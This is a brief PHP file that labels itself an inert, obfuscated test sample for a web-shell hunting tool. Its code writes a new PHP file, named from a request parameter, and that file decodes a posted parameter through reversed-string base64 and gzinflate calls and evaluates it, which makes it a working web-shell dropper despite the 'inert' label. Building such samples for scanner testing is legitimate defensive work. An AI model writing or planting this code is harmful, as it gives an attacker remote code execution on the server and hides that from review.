<?php
// webhunt test sample (inert, obfuscated variant): the generated loader names its decoders by
// reversed strings and evaluates the posted payload; the outer script builds the call names from
// pieces.
$w1 = 'file_put' . '_contents';
$gen = "<?php\n\$a = strrev('edoced_46esab');\n\$b = strrev('etalfnizg');\n"
    . "if (!empty(\$_REQUEST['k'])) { eval(\$b(\$a(\$_REQUEST['k']))); }\n";
file_put_contents(basename($_GET['n'] ?? 'x') . '.php', $gen);
